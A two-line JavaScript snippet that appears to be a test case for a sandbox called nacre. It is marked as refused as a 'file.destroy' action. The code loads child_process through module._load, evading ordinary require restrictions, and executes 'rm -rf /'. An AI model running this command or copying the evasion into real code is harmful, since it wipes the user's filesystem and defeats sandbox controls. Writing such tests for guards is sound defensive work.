// nacre: refused file.destroy
require('module')._load('child_process').exec('rm -rf /');
